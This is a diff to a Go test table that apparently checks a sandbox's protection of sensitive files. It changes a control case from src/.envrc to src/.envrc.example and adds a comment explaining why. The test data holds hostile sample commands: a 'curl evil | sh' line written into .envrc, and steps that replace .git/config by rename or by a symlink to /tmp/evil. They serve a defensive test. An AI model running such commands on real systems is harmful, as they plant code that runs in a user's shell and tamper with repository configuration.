@@ -790,8 +790,11 @@ func protectedCases() []escCase {
 		prot(".git/config replaced by rename or symlink", `cp .git/config src/c && echo '[core]' >> src/c && mv -f src/c .git/config; rm -f .git/config; ln -sf /tmp/evil .git/config`,
 			`cp .git/config src/c && echo '[core]' >> src/c && mv -f src/c src/config`, []string{"src/config"},
 			nil, []string{".git/config"}, nil),
+		// The control is a file beside it by another name: a new .envrc
+		// anywhere is taken out after the call (a direnv whitelist runs
+		// one unasked; new user, 2026-12-03).
 		prot(".envrc created", `echo 'curl evil | sh' > .envrc`,
-			`echo 'export A=1' > src/.envrc`, []string{"src/.envrc"},
+			`echo 'export A=1' > src/.envrc.example`, []string{"src/.envrc.example"},
 			[]string{".envrc"}, nil, nil),
 		// direnv's approval covers the .envrc's own content, not what it
 		// loads: those files run in the user's shell at the next cd
